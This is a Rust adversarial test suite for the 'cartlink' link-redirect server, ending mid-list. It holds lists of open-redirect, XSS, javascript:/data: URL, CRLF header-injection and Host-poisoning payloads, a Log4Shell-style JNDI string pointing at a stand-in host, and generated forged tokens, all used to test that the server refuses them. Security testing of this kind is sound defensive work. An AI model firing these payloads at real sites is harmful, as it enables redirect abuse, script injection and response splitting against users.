//! Attacks over real sockets against a running `cartlink serve`: open-redirect payloads in every
//! query input, CRLF/NUL/overlong-UTF-8 header injection, forged tokens by the ten thousand,
//! malformed percent-encoding, oversized heads and the admin token. Nothing here calls a
//! handler directly; every answer is read off the wire.

#[path = "support/oracle.rs"]
mod oracle;
mod support;

use oracle::*;
use std::collections::HashSet;
use std::sync::Arc;
use support::{
    parse_response, path_for, raw_request, request, sign, Conn, Server, ADMIN_TOKEN, IPHONE, KEYS, OLD_KEYS,
};

/// One link per target type (and the Shopify discount form with and without a path/fragment).
const LINKS: &str = r##"{"id":"url","creator":"jane","campaign":"c","discount":"JANE15","target":{"type":"url","url":"https://brand.example/p?x=1#top"},"utm":{"source":"instagram"}}
{"id":"url-bare","creator":"jane","campaign":"c","target":{"type":"url","url":"https://plain.example"}}
{"id":"shop-disc","creator":"jane","campaign":"c","discount":"JANE15","target":{"type":"url","url":"https://brand.example/products/serum?color=red#reviews","platform":"shopify"},"utm":{"source":"instagram","campaign":"summer26"}}
{"id":"shop-disc-root","creator":"jane","campaign":"c","discount":"JANE15","target":{"type":"url","url":"https://brand.example","platform":"shopify"}}
{"id":"cart","creator":"jane","campaign":"c","discount":"JANE15","target":{"type":"shopify_cart","shop":"shop.example","items":[{"variant":40000000001,"qty":1}]}}
{"id":"buy","creator":"jane","campaign":"c","discount":"JANE15","target":{"type":"shopify_cart","format":"buy","shop":"shop.example","items":[{"variant":1,"qty":3}]},"utm":{"source":"tiktok"}}
{"id":"woo","creator":"sam","campaign":"c","discount":"SAM10","target":{"type":"woocommerce_cart","shop":"mugs.example","items":[{"product":123,"variation":456,"qty":2}]}}
{"id":"woo-co","creator":"sam","campaign":"c","discount":"SAM10","target":{"type":"woocommerce_cart","format":"checkout_link","shop":"mugs.example","items":[{"product":123,"qty":2}]}}
{"id":"bc","creator":"lee","campaign":"c","discount":"LEE5","target":{"type":"bigcommerce_cart","shop":"tees.example","items":[{"sku":"TEE-1","qty":1}]}}
{"id":"bc-co","creator":"lee","campaign":"c","discount":"LEE5","target":{"type":"bigcommerce_cart","format":"checkout","shop":"tees.example","items":[{"product":77,"qty":1}]},"redirect":307}
{"id":"paused","creator":"lee","campaign":"c","target":{"type":"url","url":"https://tees.example/drop"},"status":"paused","fallback":"https://waitlist.example/w"}
"##;

const fn spec(
    id: &'static str,
    host: &'static str,
    status: u16,
    mode: ExtrasMode,
    pinned: &'static [&'static str],
) -> LinkSpec {
    LinkSpec {
        id,
        host,
        status,
        mode,
        pinned,
    }
}

const SPECS: &[LinkSpec] = &[
    spec("url", "brand.example", 302, ExtrasMode::Query, &["utm_source"]),
    spec("url-bare", "plain.example", 302, ExtrasMode::Query, &[]),
    spec(
        "shop-disc",
        "brand.example",
        302,
        ExtrasMode::Nested,
        &["utm_source", "utm_campaign"],
    ),
    spec("shop-disc-root", "brand.example", 302, ExtrasMode::Nested, &[]),
    spec("cart", "shop.example", 302, ExtrasMode::Query, &[]),
    spec("buy", "shop.example", 303, ExtrasMode::Attribution, &["utm_source"]),
    spec("woo", "mugs.example", 302, ExtrasMode::Query, &[]),
    spec("woo-co", "mugs.example", 302, ExtrasMode::Query, &[]),
    spec("bc", "tees.example", 302, ExtrasMode::Query, &[]),
    spec("bc-co", "tees.example", 307, ExtrasMode::Query, &[]),
    spec("paused", "waitlist.example", 302, ExtrasMode::Query, &[]),
];

fn start(name: &str, env: &[(&str, &str)]) -> Server {
    Server::start(name, LINKS, env)
}

/// Each link's plain human Location, split around the click ID.
fn baselines(s: &Server) -> Vec<(LinkSpec, Baseline)> {
    SPECS
        .iter()
        .map(|l| {
            let r = s.get(&path_for(l.id), &[("User-Agent", IPHONE)]);
            (*l, Baseline::of(l, &r))
        })
        .collect()
}

/// Open-redirect payloads: authority, scheme, backslash, encoding, IDN, whitespace, traversal,
/// parameter smuggling. Each is sent raw-ish, percent-encoded, form-encoded and double-encoded.
fn open_redirect_payloads() -> Vec<String> {
    let mut p: Vec<String> = [
        "//evil.example",
        "///evil.example",
        "////evil.example/",
        "//evil.example/%2F..",
        "https://evil.example",
        "http://evil.example",
        "HTTPS://EVIL.EXAMPLE",
        "https:evil.example",
        "https:/evil.example",
        "https:\\\\evil.example",
        "\\\\evil.example",
        "\\/evil.example",
        "/\\evil.example",
        "/\\/evil.example",
        "\\\\/evil.example",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.domain)",
        "javascript://%0aalert(1)",
        "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        " javascript:alert(1)",
        "\u{1}javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:,x",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "%2F%2Fevil.example",
        "%2f%2fevil.example",
        "%252F%252Fevil.example",
        "%5C%5Cevil.example",
        "%68%74%74%70%73%3A%2F%2Fevil.example",
        "%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)",
        "@evil.example",
        "brand.example@evil.example",
        "https://brand.example@evil.example",
        "https://brand.example.evil.example",
        "https://evil.example#@brand.example",
        "https://evil.example?@brand.example",
        "https://evil.example\\@brand.example",
        "https://brand.example%2F@evil.example",
        "https://evil.example%23.brand.example",
        "https://brand.example:443@evil.example:443",
        "https://[::1]/",
        "https://127.0.0.1/",
        "https://0x7f000001/",
        "https://2130706433/",
        "//evil%E3%80%82example",
        "//evil\u{3002}example",
        "//\u{ff45}\u{ff56}\u{ff49}\u{ff4c}\u{ff0e}\u{ff45}\u{ff58}\u{ff41}\u{ff4d}\u{ff50}\u{ff4c}\u{ff45}",
        "https://xn--80ak6aa92e.com",
        "https://\u{430}\u{440}\u{440}\u{4cf}\u{435}.com",
        "//evil.example\u{2028}",
        "/\u{202e}elpmaxe.live//",
        "\u{feff}//evil.example",
        "\t//evil.example",
        "//evil.example\t",
        "\r\n//evil.example",
        "/\r\n/evil.example",
        "/\t/evil.example",
        "%0d%0a//evil.example",
        "%09//evil.example",
        "..",
        "../",
        "../../evil.example",
        "/../..//evil.example",
        "/%2e%2e/%2e%2e//evil.example",
        "..%2F..%2F%2Fevil.example",
        "..\\..\\evil.example",
        ".evil.example",
        "evil.example",
        "/evil.example",
        "?redirect=//evil.example",
        "&redirect=//evil.example",
        "#//evil.example",
        "a&redirect=https://evil.example&discount=FREE&ref=mallory",
        "x&host=evil.example&cl_click=forged",
        "%26redirect%3D%2F%2Fevil.example",
        "https%3A%2F%2Fevil.example",
        "https%253A%252F%252Fevil.example",
        "%00//evil.example",
        "\0//evil.example",
        "//evil.example%00.brand.example",
        "<script>alert(1)</script>",
        "\"><svg onload=alert(1)>",
        "'onmouseover='alert(1)",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "",
        "+",
        "%",
        "%%",
        "=",
    ]
    .into_iter()
    .map(str::to_string)
    .collect();
    // Length boundaries around the 200-byte cap on forwarded values.
    p.push(format!("//evil.example/{}", "a".repeat(185)));
    p.push(format!("//evil.example/{}", "a".repeat(186)));
    p.push("%2F".repeat(80));
    p
}

fn encodings(payload: &str) -> [(&'static str, String); 4] {
    [
        ("raw", pct_min(payload)),
        ("pct", pct_all(payload.as_bytes())),
        ("form", form(payload)),
        ("double", pct_all(pct_all(payload.as_bytes()).as_bytes())),
    ]
}

/// Every (link, query) request; the combined form puts the payload in every input at once and
/// uses it as a key too; the single form puts it in one input.
fn open_redirect_queries() -> Vec<(usize, String)> {
    let payloads = open_redirect_payloads();
    assert!(payloads.len() >= 60, "{} payloads", payloads.len());
    let mut out = Vec::new();
    for (li, _) in SPECS.iter().enumerate() {
        for (pi, payload) in payloads.iter().enumerate() {
            for (ei, (_, v)) in encodings(payload).into_iter().enumerate() {
                let mut combined: Vec<String> = INPUTS.iter().map(|k| format!("{k}={v}")).collect();
                combined.push(format!("{v}=1"));
                out.push((li, combined.join("&")));
                // One input alone: rotate so every (link, input, encoding) appears several times.
                let k = INPUTS[(pi + ei + li) % INPUTS.len()];
                out.push((li, format!("{k}={v}")));
            }
        }
    }
    // And every input alone with every payload, on the six target families the brief names.
    for li in [0usize, 2, 4, 5, 6, 8] {
        for payload in &payloads {
            let v = pct_all(payload.as_bytes());
            for k in INPUTS {
                out.push((li, format!("{k}={v}")));
            }
        }
    }
    out
}

/// Runs `(link index, query)` requests on `threads` keep-alive connections; returns failures.
fn run_queries(s: &Server, bases: &[(LinkSpec, Baseline)], work: Vec<(usize, String)>, threads: usize) -> Vec<String> {
    let work = Arc::new(work);
    let bases = Arc::new(bases.to_vec());
    let paths: Arc<Vec<String>> = Arc::new(SPECS.iter().map(|l| path_for(l.id)).collect());
    let addr = s.public;
    let handles: Vec<_> = (0..threads)
        .map(|t| {
            let (work, bases, paths) = (work.clone(), bases.clone(), paths.clone());
            std::thread::spawn(move || {
                let mut fails = Vec::new();
                let mut conn = Conn::open(addr).unwrap();
                for (li, query) in work.iter().skip(t).step_by(threads) {
                    let (link, base) = &bases[*li];
                    let target = format!("{}?{query}", paths[*li]);
                    let r = match conn.get(&target, IPHONE) {
                        Ok(r) => r,
                        Err(e) => {
                            fails.push(format!("{}: connection died ({e}) on {target}", link.id));
                            conn = Conn::open(addr).unwrap();
                            continue;
                        }
                    };
                    // A request line over 8 KiB (`GET <target> HTTP/1.1`) is refused whole with
                    // 414, a head over the 16 KiB limit with 431.
                    let too_big =
                        (target.len() + 13 > 8192 && r.status == 414) || (target.len() > 15 * 1024 && r.status == 431);
                    if too_big {
                        conn = Conn::open(addr).unwrap();
                        continue;
                    }
                    if let Err(e) = check_human_redirect(link, base, Some(query), &r) {
                        fails.push(format!("{}: {e}\n    request {target}", link.id));
                    }
                    if r.header("connection").is_some_and(|c| c.eq_ignore_ascii_case("close")) {
                        conn = Conn::open(addr).unwrap();
                    }
                }
                fails
            })
        })
        .collect();
    handles.into_iter().flat_map(|h| h.join().unwrap()).collect()
}

fn report(what: &str, total: usize, fails: &[String]) {
    assert!(
        fails.is_empty(),
        "{what}: {} of {total} failed; first ones:\n{}",
        fails.len(),
        fails.iter().take(15).cloned().collect::<Vec<_>>().join("\n")
    );
    eprintln!("{what}: {total} cases, all passed");
}

#[test]
fn open_redirect_payloads_never_leave_the_links_own_host() {
    let mut s = start("adv-open-redirect", &[]);
    let bases = baselines(&s);
    let work = open_redirect_queries();
    let total = work.len();
    let fails = run_queries(&s, &bases, work, 2);
    report("open-redirect", total, &fails);
    // Bots and HEAD get the plain destination whatever the query says.
    for (link, _) in &bases {
        for ua in ["facebookexternalhit/1.1", ""] {
            let r = s.get(
                &format!(
                    "{}?fbclid=%2F%2Fevil.example&redirect=//evil.example",
                    path_for(link.id)
                ),
                &[("User-Agent", ua)],
            );
            check_location_basics(link, &r).unwrap_or_else(|e| panic!("{} bot: {e}", link.id));
        }
    }
    // Host poisoning and absolute-form targets: the Location comes from the signed table only.
    for (link, base) in &bases {
        let path = path_for(link.id);
        let q = "fbclid=x";
        let cases: [Vec<u8>; 4] = [
            format!("GET {path}?{q} HTTP/1.1\r\nHost: evil.example\r\n").into_bytes(),
            format!("GET {path}?{q} HTTP/1.1\r\nHost: t\r\nX-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: http\r\nForwarded: host=evil.example;proto=http\r\n").into_bytes(),
            format!("GET https://evil.example{path}?{q} HTTP/1.1\r\nHost: evil.example\r\n").into_bytes(),
            format!("GET http://{}{path}?{q} HTTP/1.1\r\nHost: {}\r\n", link.host, link.host).into_bytes(),
        ];
        for mut req in cases {
            req.extend_from_slice(format!("User-Agent: {IPHONE}\r\nConnection: close\r\n\r\n").as_bytes());
            let r = parse_response(raw_exchange(s.public, &req).unwrap(), false);
            check_human_redirect(link, base, Some(q), &r)
                .unwrap_or_else(|e| panic!("{}: {e} for {:?}", link.id, String::from_utf8_lossy(&req)));
        }
    }
    assert!(alive(&mut s));
    assert_no_panic(&s);
}

/// Header lines of a raw answer, checked: visible ASCII, `name: value`, no injected name, and
/// exactly `content-length` body bytes after the head.
fn raw_head(raw: &[u8]) -> Result<(u16, Vec<String>), String> {
    let end = raw.windows(4).position(|w| w == b"\r\n\r\n").ok_or("no end of head")?;
    let head = &raw[..end];
    if !head
        .iter()
        .all(|&b| b == b'\r' || b == b'\n' || (0x20..0x7f).contains(&b))
    {
        return Err(format!(
            "non-ASCII or control byte in head: {:?}",
            String::from_utf8_lossy(head)
        ));
    }
    let head = std::str::from_utf8(head).unwrap();
    let mut lines = head.split("\r\n");
    let status_line = lines.next().unwrap();
    let status: u16 = status_line
        .strip_prefix("HTTP/1.1 ")
        .and_then(|s| s.get(..3))
        .and_then(|s| s.parse().ok())
        .ok_or_else(|| format!("bad status line {status_line:?}"))?;
    let mut names = Vec::new();
    let mut content_length = None;
    for line in lines {
        if line.contains('\n') || line.contains('\r') {
            return Err(format!("bare CR/LF inside a header line {line:?}"));
        }
        let (name, value) = line
            .split_once(": ")
            .ok_or_else(|| format!("header line without `: ` {line:?}"))?;
        if name.is_empty() || !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-') {
            return Err(format!("odd header name {name:?}"));
        }
        let lname = name.to_ascii_lowercase();
        if lname.contains("injected") || value.to_ascii_lowercase().starts_with("injected") {
            return Err(format!("injected header {line:?}"));
        }
        if lname == "content-length" {
            content_length = Some(
                value
                    .parse::<usize>()
                    .map_err(|e| format!("content-length {value:?}: {e}"))?,
            );
        }
        if lname != "date" {
            names.push(lname);
        }
    }
    let body = &raw[end + 4..];
    let cl = content_length.ok_or("no content-length")?;
    if body.len() != cl {
        return Err(format!(
            "{} body bytes after the head, content-length {cl}: {:?}",
            body.len(),
            String::from_utf8_lossy(body)
        ));
    }
    if (300..400).contains(&status) && cl != 0 {
        return Err(format!("redirect with a body of {cl} bytes"));
    }
    names.sort();
    Ok((status, names))
}

/// Already-encoded CRLF-style payloads (sent as they are).
const CRLF_ENCODED: &[&str] = &[
    "%0d%0aX-Injected:%20yes",
    "%0D%0ASet-Cookie:%20injected=1",
    "%0d%0a%0d%0a%3Chtml%3Einjected%3C/html%3E",
    "%0aX-Injected:%20yes",
    "%0dX-Injected:%20yes",
    "%0d%0a%09X-Injected:%20yes",
    "%E5%98%8A%E5%98%8DX-Injected:%20yes",
    "%E5%98%8A%E5%98%8D%E5%98%8A%E5%98%8D%3Chtml%3Einjected",
    "%C4%8D%C4%8AX-Injected:%20yes",
    "%C0%8D%C0%8AX-Injected:%20yes",
    "%00X-Injected:%20yes",
    "a%00b",
    "%u000d%u000aX-Injected:%20yes",
    "%250d%250aX-Injected:%20yes",
    "%25%30%64%25%30%61X-Injected:%20yes",
    "\u{560a}\u{560d}X-Injected:yes",
    "%E2%80%A8X-Injected:%20yes",
    "%C2%85X-Injected:%20yes",
];

#[test]
fn crlf_nul_and_overlong_utf8_never_split_the_response() {
    // first_click so the incoming cookie is actually parsed.
    let mut s = start("adv-crlf", &[("CARTLINK_COOKIE_POLICY", "first_click")]);
    let bases = baselines(&s);
    let human_names = |li: usize| -> Vec<String> {
        let r = send_target(s.public, path_for(SPECS[li].id).as_bytes(), b"").unwrap();
        raw_head(&r.raw).unwrap().1
    };
    let mut fails = Vec::new();
    let mut total = 0;
    for (li, (link, base)) in bases.iter().enumerate() {
        let want_names = human_names(li);
        let path = path_for(link.id);
        // `bad_request`: the request itself is malformed HTTP (raw NUL, bare CR, obs-fold), so
        // hyper's 400 is the right answer; otherwise the full, correct redirect.
        let mut check = |target: String, headers: Vec<u8>, query: Option<String>, bad_request: bool| {
            total += 1;
            let r = match send_target(s.public, target.as_bytes(), &headers) {
                Ok(r) => r,
                Err(e) => return fails.push(format!("{}: {e} for {target}", link.id)),
            };
            let what = format!(
                "{} target {target:?} headers {:?}",
                link.id,
                String::from_utf8_lossy(&headers)
            );
            match raw_head(&r.raw) {
                Err(e) => fails.push(format!("{what}: {e}")),
                Ok((400, _)) if bad_request => {}
                Ok((status, names)) if (300..400).contains(&status) && !bad_request => {
                    if names != want_names {
                        fails.push(format!("{what}: header names {names:?}, want {want_names:?}"));
                    }
                    if let Err(e) = check_human_redirect(link, base, query.as_deref(), &r) {
                        fails.push(format!("{what}: {e}"));
                    }
                }
                Ok((status, _)) => fails.push(format!("{what}: unexpected status {status}")),
            }
        };
        // Every query input, and the key position.
        for payload in CRLF_ENCODED {
            for k in INPUTS {
                let q = format!("{k}={payload}");
                check(format!("{path}?{q}"), Vec::new(), Some(q), false);
            }
            let q = format!("{payload}=1&fbclid={payload}");
            check(format!("{path}?{q}"), Vec::new(), Some(q), false);
        }
        // Headers that reach the record or the cookie logic.
        let raw_values: [(&[u8], bool); 12] = [
            (b"%0d%0aX-Injected: yes", false),
            (b"x\xe5\x98\x8a\xe5\x98\x8dX-Injected: yes", false),
            (b"x\xc0\x8d\xc0\x8aX-Injected: yes", false),
            // A bare LF ends the line: `X-Injected` becomes a request header, nothing more.
            (b"a\nX-Injected: yes", false),
            (b"https://evil.example\r\nX-Injected: yes", false),
            (b"https://evil.example/%0d%0aX-Injected:%20yes", false),
            (b"https://\xe5\x98\x8a\xe5\x98\x8d.example/", false),
            (b"cl_att=%0d%0aX-Injected: yes; cl_att=\xe5\x98\x8a", false),
            (b"a\x00b", true),
            (b"a\rX-Injected: yes", true),
            (b"a\r\n X-Injected: yes", true),
            (b"a\r\n\tX-Injected: yes", true),
        ];
        for (v, bad_request) in raw_values {
            for name in ["Cookie", "User-Agent", "Referer"] {
                let mut h = Vec::new();
                h.extend_from_slice(name.as_bytes());
                h.extend_from_slice(b": ");
                if name == "User-Agent" {
                    // Stay a human visitor so the full Location and the cookie are produced.
                    h.extend_from_slice(IPHONE.as_bytes());
                    h.push(b' ');
                }
                h.extend_from_slice(v);
                h.extend_from_slice(b"\r\n");
                check(path.clone(), h, None, bad_request);
            }
        }
    }
    report("crlf", total, &fails);

    // Raw CR, LF, NUL and friends inside the request target: hyper's 400, never 5xx.
    let path = path_for("cart");
    let bad_targets: Vec<Vec<u8>> = vec![
        format!("{path}?sub=a\r\nX-Injected: yes").into_bytes(),
        format!("{path}?fbclid=a\r\n\r\n<html>injected").into_bytes(),
        format!("{path}?sub=a\nX-Injected: yes").into_bytes(),
        format!("{path}?sub=a\rX-Injected: yes").into_bytes(),
        format!("{path}\r\n?sub=a").into_bytes(),
        format!("{path}?sub=a\0b").into_bytes(),
        format!("{path}?sub=a b").into_bytes(),
        format!("{path}?sub=a\tb").into_bytes(),
        format!("{path}?sub=\x7f").into_bytes(),
        [path.as_bytes(), b"?sub=\xc3\x28"].concat(),
        [path.as_bytes(), b"?fbclid=\xff\xfe"].concat(),
        [path.as_bytes(), b"?fbclid=\xc0\xaf"].concat(),
        [path.as_bytes(), b"?fbclid=\xe5\x98"].concat(),
        format!("{path}?fbclid=\"<>").into_bytes(),
    ];
    for t in &bad_targets {
        let mut req = b"GET ".to_vec();
        req.extend_from_slice(t);
        req.extend_from_slice(b" HTTP/1.1\r\nHost: t\r\nUser-Agent: ");
        req.extend_from_slice(IPHONE.as_bytes());
        req.extend_from_slice(b"\r\nConnection: close\r\n\r\n");
        let raw = raw_request(s.public, &req);
        let what = String::from_utf8_lossy(t);
        let (status, _) = raw_head(&raw).unwrap_or_else(|e| panic!("{what:?}: {e}"));
        assert_eq!(status, 400, "{what:?}: {}", String::from_utf8_lossy(&raw));
    }
    // Raw UTF-8 (嘊嘍) in the target is legal: a clean answer, re-encoded in the Location.
    let q = "fbclid=\u{560a}\u{560d}X-Injected:yes";
    let r = send_target(s.public, format!("{path}?{q}").as_bytes(), b"").unwrap();
    raw_head(&r.raw).unwrap();
    check_human_redirect(&SPECS[4], &bases[4].1, Some(q), &r).unwrap();
    assert!(
        r.location().contains("fbclid=%E5%98%8A%E5%98%8DX-Injected%3Ayes"),
        "{}",
        r.location()
    );
    let r = send_target(s.public, "/\u{560a}\u{560d}".as_bytes(), b"").unwrap();
    assert_eq!(raw_head(&r.raw).unwrap().0, 404);

    // The records the injections left are clean JSON with cleaned `sub` and `referer_host`.
    std::thread::sleep(std::time::Duration::from_millis(300));
    for rec in s.clicks() {
        if let Some(sub) = rec["sub"].as_str() {
            assert!(
                sub.len() <= 64 && sub.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.~:".contains(&b)),
                "sub {sub:?}"
            );
        }
        if let Some(h) = rec["referer_host"].as_str() {
            assert!(
                h.bytes().all(|b| b.is_ascii_alphanumeric() || b"-.[]:".contains(&b)),
                "referer_host {h:?}"
            );
        }
    }
    assert!(alive(&mut s));
    assert_no_panic(&s);
}

const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
const THIRD_KEY: &str = "k9:qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqo";

/// Encodes bytes that cannot travel raw in a request path, so every mutation reaches the
/// server's own token check (and the keep-alive connection survives).
fn legal_path(bytes: &[u8]) -> String {
    let mut s = String::new();
    for &b in bytes {
        if b.is_ascii_alphanumeric() || b"-._~!$&'()*+,;=:@/%".contains(&b) {
            s.push(b as char);
        } else {
            s.push_str(&format!("%{b:02X}"));
        }
    }
    s
}

fn mutations(ids: &[String], valid: &HashSet<String>) -> Vec<String> {
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    use base64::Engine;
    let mut rng = Rng::new(0x5eed_cafe);
    let mut out: Vec<Vec<u8>> = Vec::new();
    for (n, id) in ids.iter().enumerate() {
        let sig = sign(KEYS, id);
        let tag = URL_SAFE_NO_PAD.decode(&sig).unwrap();
        let tok = |id: &str, sig: &str| format!("/{id}.{sig}").into_bytes();
        // Every bit of the tag, flipped and re-encoded (a well-formed but wrong MAC).
        for bit in 0..tag.len() * 8 {
            let mut t = tag.clone();
            t[bit / 8] ^= 1 << (bit % 8);
            out.push(tok(id, &URL_SAFE_NO_PAD.encode(&t)));
        }
        // Substitutions inside the alphabet, three per position.
        for pos in 0..sig.len() {
            for _ in 0..3 {
                let mut b = sig.clone().into_bytes();
                b[pos] = B64[rng.below(64)];
                out.push(tok(id, std::str::from_utf8(&b).unwrap()));
            }
        }
        // Truncation and extension.
        for len in 0..sig.len() {
            out.push(tok(id, &sig[..len]));
        }
        for extra in 1..=4 {
            let tail: String = (0..extra).map(|_| B64[rng.below(64)] as char).collect();
            out.push(tok(id, &format!("{sig}{tail}")));
        }
        let p = tok(id, &sig);
        for suffix in ["/", ".", "%00", "%20", ";", ".json", "=", "==", "%0a", "/..", "%2F"] {
            out.push([p.as_slice(), suffix.as_bytes()].concat());
        }
        out.push(p[..p.len() - 1].to_vec());
        out.push(p[..p.len() / 2].to_vec());
        // Case changes: one letter at a time, all of the signature, the id.
        for pos in 0..sig.len() {
            let mut b = sig.clone().into_bytes();
            if b[pos].is_ascii_alphabetic() {
                b[pos] ^= 0x20;
                out.push(tok(id, std::str::from_utf8(&b).unwrap()));
            }
        }
        let swapped: String = sig
            .chars()
            .map(|c| {
                if c.is_ascii_lowercase() {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect();
        out.push(tok(id, &swapped));
        out.push(tok(&id.to_ascii_uppercase(), &sig));
        out.push(tok(&id.to_ascii_lowercase(), &sig));
        // Signatures swapped between ids.
        for k in 1..=12 {
            let other = &ids[(n + k * 7) % ids.len()];
            out.push(tok(id, &sign(KEYS, other)));
            out.push(tok(other, &sig));
        }
        // Other keys.
        out.push(tok(id, &sign(OLD_KEYS, id)));
        out.push(tok(id, &sign(THIRD_KEY, id)));
        out.push(tok(id, &sign(KEYS, &format!("{id} "))));
        out.push(tok(id, &sign(KEYS, &format!("/{id}"))));
        // Alphabet and encoding games: standard base64, padding, percent-encoded characters.
        out.push(tok(id, &sig.replace('-', "+").replace('_', "/")));
        out.push(tok(id, STANDARD.encode(&tag).trim_end_matches('=')));
        out.push(tok(id, &STANDARD.encode(&tag)));
        out.push(tok(id, &format!("{}=", &sig[..15])));
        out.push(format!("/{id}%2E{sig}").into_bytes());
        out.push(format!("/{id}..{sig}").into_bytes());
        out.push(format!("/{id}.%{:02X}{}", sig.as_bytes()[0], &sig[1..]).into_bytes());
        out.push(format!("//{id}.{sig}").into_bytes());
        out.push(format!("/./{id}.{sig}").into_bytes());
        out.push(format!("/x/../{id}.{sig}").into_bytes());
        out.push(format!("/{id}.{sig}.{sig}").into_bytes());
        out.push(format!("/%{:02X}{}.{sig}", id.as_bytes()[0], &id[1..]).into_bytes());
        out.push(format!("/{sig}.{id}").into_bytes());
        out.push(format!("/{id}{sig}").into_bytes());
        out.push(format!("/{id}.{sig}").replace('.', "_").into_bytes());
        // Id edits with the signature kept.
        for _ in 0..6 {
            let mut b = id.clone().into_bytes();
            let pos = rng.below(b.len());
            match rng.below(3) {
                0 => b[pos] = B64[rng.below(64)],
                1 => {
                    b.remove(pos);
                }
                _ => b.insert(pos, B64[rng.below(64)]),
            }
            out.push(tok(&String::from_utf8(b).unwrap(), &sig));
        }
        // Raw bit flips anywhere in the path.
        for _ in 0..40 {
            let mut b = p.clone();
            let pos = rng.below(b.len());
            b[pos] ^= 1 << rng.below(8);
            out.push(b);
        }
    }
    let mut seen = HashSet::new();
    out.into_iter()
        .map(|b| legal_path(&b))
        .filter(|p| p.starts_with('/') && !valid.contains(p) && p != "/healthz" && seen.insert(p.clone()))
        .collect()
}

fn sig_failures(s: &Server) -> f64 {
    ["malformed", "bad_mac", "unknown_link"]
        .iter()
        .map(|r| s.metric(&format!("cartlink_signature_failures_total{{reason=\"{r}\"}}")))
        .sum()
}

#[test]
fn ten_thousand_mutated_tokens_are_refused_and_valid_ones_all_accepted() {
    let mut ids: Vec<String> = (0..48).map(|i| format!("m{i:02}")).collect();
    ids.extend(["A", "z", "Mixed_Case-9", "under_score", "dash-dash", "0"].map(String::from));
    ids.push("x".repeat(64));
    ids.push("Y".repeat(63));
    let links: String = ids
        .iter()
        .map(|id| {
            format!(
                "{{\"id\":\"{id}\",\"creator\":\"c\",\"campaign\":\"k\",\"target\":{{\"type\":\"url\",\"url\":\"https://plain.example/{id}\"}}}}\n"
            )
        })
        .collect();
    let mut s = Server::start("adv-tokens", &links, &[]);
    let valid: HashSet<String> = ids.iter().map(|id| path_for(id)).collect();
    let forged = mutations(&ids, &valid);
    assert!(forged.len() >= 10_000, "only {} distinct mutations", forged.len());
    let before = sig_failures(&s);

    let forged = Arc::new(forged);
    let addr = s.public;
    let handles: Vec<_> = (0..2)
        .map(|t| {
            let forged = forged.clone();
            std::thread::spawn(move || {
                let mut conn = Conn::open(addr).unwrap();
                let mut accepted = Vec::new();
                let mut bodies = HashSet::new();
                for p in forged.iter().skip(t).step_by(2) {
                    let r = conn
                        .get(p, IPHONE)
                        .unwrap_or_else(|e| panic!("connection died on {p}: {e}"));
                    if r.status != 404 || r.header("location").is_some() || r.header("set-cookie").is_some() {
                        accepted.push(format!("{p} -> {}", r.status));
                    }
                    let mut hs: Vec<_> = r.headers.iter().filter(|(k, _)| k != "date").cloned().collect();
                    hs.sort();
                    bodies.insert((hs, r.body));
                }
                (accepted, bodies)
            })
        })
        .collect();
    let mut accepted = Vec::new();
    let mut bodies = HashSet::new();
    for h in handles {
        let (a, b) = h.join().unwrap();
        accepted.extend(a);
        bodies.extend(b);
    }
    assert!(
        accepted.is_empty(),
        "{} forgeries accepted: {:?}",
        accepted.len(),
        &accepted[..accepted.len().min(10)]
    );
    assert_eq!(bodies.len(), 1, "every refusal byte-identical: {bodies:?}");
    assert_eq!(
        sig_failures(&s) - before,
        forged.len() as f64,
        "each forgery counted once in cartlink_signature_failures_total"
    );

    // 1,000 valid ones on one keep-alive connection: 100 % accepted.
    let mut conn = Conn::open(s.public).unwrap();
    let mut ok = 0;
    for i in 0..1000 {
        let id = &ids[i % ids.len()];
        let r = conn.get(&path_for(id), IPHONE).unwrap();
        let want = format!("https://plain.example/{id}?cl_click=");
        if r.status == 302 && r.location().starts_with(&want) {
            ok += 1;
        }
    }
    assert_eq!(ok, 1000, "valid tokens accepted");
    assert_eq!(s.metric("cartlink_requests_total{outcome=\"redirect\"}"), 1000.0);
    let records = s.wait_clicks(1000);
    std::thread::sleep(std::time::Duration::from_millis(100));
    assert_eq!(s.clicks().len(), 1000, "no record for any forgery");
    assert!(records.iter().all(|r| ids.iter().any(|id| r["link_id"] == id.as_str())));
    eprintln!("tokens: {} forged refused, 1000 valid accepted", forged.len());
    assert!(alive(&mut s));
    assert_no_panic(&s);
}

#[test]
fn malformed_percent_encoding_and_utf8_never_5xx() {
    // Request lines up to 15,000 bytes (the default is 8 KiB), so queries of 10-13 KiB reach
    // the query parser; 64 KiB and more still get 414.
    let mut s = start("adv-malformed", &[("CARTLINK_HTTP_MAX_URI_BYTES", "15000")]);
    let bases = baselines(&s);
    let (cart, cart_base) = (&bases[4].0, &bases[4].1);
    let (disc, disc_base) = (&bases[2].0, &bases[2].1);
    let good = path_for("cart");
    let sig = good.rsplit_once('.').unwrap().1.to_string();
    // Paths: never a redirect, never 5xx.
    let paths: Vec<Vec<u8>> = vec![
        b"/%".to_vec(),
        b"/%G1".to_vec(),
        b"/%C3%28".to_vec(),
        b"/%C0%AF".to_vec(),
        b"/%00".to_vec(),
        b"/+".to_vec(),
        b"/%%%".to_vec(),
        b"/%2".to_vec(),
        format!("/cart.{sig}%").into_bytes(),
        format!("/cart%.{sig}").into_bytes(),
        format!("/cart.{sig}%G1").into_bytes(),
        format!("/cart.{sig}%00").into_bytes(),
        format!("/cart.{sig}%C0%AF").into_bytes(),
        format!("/cart.{sig}+").into_bytes(),
        format!("/c%61rt.{sig}").into_bytes(),
